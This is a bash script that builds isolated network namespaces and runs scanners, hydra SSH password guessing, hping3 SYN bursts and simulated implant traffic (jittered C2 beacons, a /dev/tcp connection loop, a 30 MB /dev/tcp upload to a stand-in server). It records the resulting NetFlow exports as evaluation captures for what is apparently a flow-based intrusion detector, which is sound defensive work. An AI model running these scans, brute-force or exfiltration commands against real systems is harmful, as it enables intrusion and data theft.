#!/usr/bin/env bash
# Makes the evaluation captures once, with real tools, in network namespaces this script creates (nothing leaves
# them): a router namespace holds a bridge, softflowd exports every flow it sees on the bridge as NetFlow v9 to its
# own loopback, and tshark captures the export datagrams into eval/captures/NAME.pcap. The pcaps are committed;
# CI replays them (FlowAnalyzer, as `flowctl analyze`) and never runs this script.
#
#   bash eval/make-captures.sh            # as root; all cases, about 12 minutes
#   bash eval/make-captures.sh NAME...    # only these cases
#
# Hosts (all on one bridge; every namespace has an on-link default route, so ARP resolves any address on it):
#   fa-ext  198.51.100.7   "the Internet": scanner, C2 and upload server; 198.51.100.20-59 extra targets
#   fa-pub  203.0.113.10   a public, monitored host (/32): sshd on 22, a web server on 80
#   fa-in   10.77.0.5      an internal workstation (the implant)
# Every tool run is bounded in count and time (timeout) and aimed only at these addresses.
set -euo pipefail
cd "$(dirname "$0")"
OUT="$PWD/captures"
mkdir -p "$OUT"
WORK="$(mktemp -d)"
NS=(fa-rt fa-ext fa-pub fa-in)
PIDS=()

cleanup() {
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
  for n in "${NS[@]}"; do ip netns del "$n" 2>/dev/null || true; done
  rm -rf "$WORK"
}
trap cleanup EXIT

for n in "${NS[@]}"; do ip netns del "$n" 2>/dev/null || true; ip netns add "$n"; ip -n "$n" link set lo up; done
ip -n fa-rt link add br0 type bridge
ip -n fa-rt link set br0 up
attach() { # namespace address...
  local n=$1; shift
  ip -n fa-rt link add "v-$n" type veth peer name eth0 netns "$n"
  ip -n fa-rt link set "v-$n" master br0 up
  ip -n "$n" link set eth0 up
  for a in "$@"; do ip -n "$n" addr add "$a" dev eth0; done
  ip -n "$n" route add default dev eth0
  # Answer every probe at once (nmap -sU needs the ICMP port-unreachables; the kernel limits them to 1/s by default).
  ip netns exec "$n" sysctl -qw net.ipv4.icmp_ratelimit=0
}
attach fa-ext 198.51.100.7/32 $(for i in $(seq 20 59); do echo "198.51.100.$i/32"; done)
attach fa-pub 203.0.113.10/32
attach fa-in 10.77.0.5/32

# Servers: python web servers (80 on the public host; 443 and 9999 upload sink on fa-ext), sshd on the public host.
ip netns exec fa-pub timeout 900 python3 -m http.server 80 --bind 203.0.113.10 >/dev/null 2>&1 & PIDS+=($!)
ip netns exec fa-ext timeout 900 python3 -m http.server 443 --bind 198.51.100.7 >/dev/null 2>&1 & PIDS+=($!)
cat > "$WORK/sink.py" <<'PY'
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("198.51.100.7", 9999)); s.listen(1)
c, _ = s.accept()
while c.recv(1 << 16):
    pass
PY
ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
cat > "$WORK/sshd_config" <<CFG
Port 22
ListenAddress 203.0.113.10
HostKey $WORK/hostkey
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PidFile $WORK/sshd.pid
MaxStartups 100:30:200
MaxAuthTries 2
CFG
mkdir -p /run/sshd
ip netns exec fa-pub timeout 900 /usr/sbin/sshd -D -f "$WORK/sshd_config" & PIDS+=($!)
sleep 1

# One capture: tshark records the packets crossing fa-ext's bridge port (headers only), the packets are optionally
# re-timed (timestamps stretched by FACTOR around the first packet: the same packets, spread out), and softflowd
# reads them (-r, flow times from packet times) and exports NetFlow v9 to 127.0.0.1:2055 inside fa-rt, where a
# second tshark records the export datagrams into captures/NAME.pcap.
cat > "$WORK/retime.py" <<'PY2'
import struct, sys
src, dst, factor = sys.argv[1], sys.argv[2], float(sys.argv[3])
data = open(src, "rb").read()
out = bytearray(data[:24]); pos = 24; t0 = None
while pos + 16 <= len(data):
    sec, usec, incl, orig = struct.unpack_from("<IIII", data, pos)
    t = sec * 1_000_000 + usec
    t0 = t if t0 is None else t0
    t = t0 + int((t - t0) * factor)
    out += struct.pack("<IIII", t // 1_000_000, t % 1_000_000, incl, orig) + data[pos + 16:pos + 16 + incl]
    pos += 16 + incl
open(dst, "wb").write(out)
PY2
ONLY=" $* "
capture() { # name factor command...
  local name=$1 factor=$2; shift 2
  if [ "$ONLY" != "  " ] && [[ "$ONLY" != *" $name "* ]]; then return 0; fi
  rm -f "$OUT/$name.pcap"
  ip netns exec fa-rt timeout 900 tshark -q -i v-fa-ext -s 128 -F pcap -w "$WORK/$name.raw.pcap" >/dev/null 2>&1 & local tpid=$!
  sleep 3
  echo "== $name (x$factor): $*"
  "$@" || echo "   ($name: tool exited $?)"
  sleep 2
  kill "$tpid" 2>/dev/null || true; wait "$tpid" 2>/dev/null || true
  python3 "$WORK/retime.py" "$WORK/$name.raw.pcap" "$WORK/$name.timed.pcap" "$factor"
  ip netns exec fa-rt timeout 900 tshark -q -i lo -f 'udp port 2055' -F pcap -w "$WORK/$name.pcap" >/dev/null 2>&1 & tpid=$!
  sleep 3
  ip netns exec fa-rt timeout 300 softflowd -r "$WORK/$name.timed.pcap" -n 127.0.0.1:2055 -v 9 -d -t maxlife=300 -t tcp=60 -t udp=30 -t icmp=30 -t tcp.rst=10 -t tcp.fin=10 >/dev/null 2>&1 || true
  sleep 2
  kill "$tpid" 2>/dev/null || true; wait "$tpid" 2>/dev/null || true
  cp "$WORK/$name.pcap" "$OUT/$name.pcap"
  echo "   $(stat -c %s "$WORK/$name.raw.pcap") bytes of packets -> $(stat -c %s "$OUT/$name.pcap") bytes of NetFlow v9"
}

EXT="ip netns exec fa-ext"
IN="ip netns exec fa-in"

# Inbound scans of the public host.
capture inbound-syn-scan 1 $EXT timeout 120 nmap -n -Pn -sS -T4 -p 1-300 203.0.113.10
capture inbound-udp-scan 1 $EXT timeout 180 nmap -n -Pn -sU -T4 --max-retries 0 -p 1-120 203.0.113.10
# A slow scan's probes: -T1 spaces probes 15 s apart; 24 ports would take 6 minutes, so the capture is of -T3 with
# --scan-delay 1s and the evaluation re-times the packets to one probe every 2 minutes (see eval/README.md).
capture inbound-slow-scan 120 $EXT timeout 120 nmap -n -Pn -sS --scan-delay 1s --max-retries 0 -p 20-25,53,80,110,111,135,139,143,443,445,993,995,1433,3306,3389,5432,5900,6379,8080 203.0.113.10
capture inbound-masscan 1 $EXT timeout 60 masscan 203.0.113.10 -p1-400 --rate 200 --wait 2 -e eth0 --adapter-ip 198.51.100.7 --router-ip 203.0.113.10 2>/dev/null
for i in $(seq 1 80); do echo "guess$i"; done > "$WORK/pw.txt"
capture inbound-ssh-brute 1 $EXT timeout 150 hydra -q -l root -P "$WORK/pw.txt" -t 4 -I ssh://203.0.113.10

# Outbound behaviours of the implant (fa-in).
beacon() { # jittered beacon: 32 small HTTP GETs every 8 s +-30 % (uniform jitter)
  for i in $(seq 1 32); do
    curl -s -m 3 -o /dev/null "http://198.51.100.7:443/index.html?id=$i" || true
    sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.2f", 8 * (0.7 + 0.6 * r / 32767) }')"
  done
}
failing_c2() { # connection loop: 240 attempts at a closed port, 0.2-0.8 s apart, in two bursts
  for burst in 1 2; do
    for i in $(seq 1 120); do
      timeout 1 bash -c 'exec 3<>/dev/tcp/198.51.100.7/8443' 2>/dev/null || true
      sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.2f", 0.2 + 0.6 * r / 32767 }')"
    done
    sleep 5
  done
}
upload() { # 30 MB to a non-standard port
  ip netns exec fa-ext timeout 60 python3 "$WORK/sink.py" & local sink=$!
  sleep 1
  head -c 30000000 /dev/urandom > "$WORK/blob"
  timeout 60 bash -c "cat '$WORK/blob' > /dev/tcp/198.51.100.7/9999" || true
  wait "$sink" 2>/dev/null || true
}
burst() { # horizontal burst: SYNs to 40 Internet hosts on 445 within seconds, plus small completed sessions on 80
  for i in $(seq 20 59); do timeout 3 hping3 -q -S -p 445 -c 1 "198.51.100.$i" >/dev/null 2>&1 & done
  wait
}
export -f beacon failing_c2 upload burst
export WORK
capture jittered-beacon 7.5 $IN timeout 400 bash -c beacon
capture failing-c2 4 $IN timeout 400 bash -c failing_c2
capture bulk-upload 1 $IN bash -c upload
capture horizontal-burst 1 $IN timeout 60 bash -c burst
ls -l "$OUT"
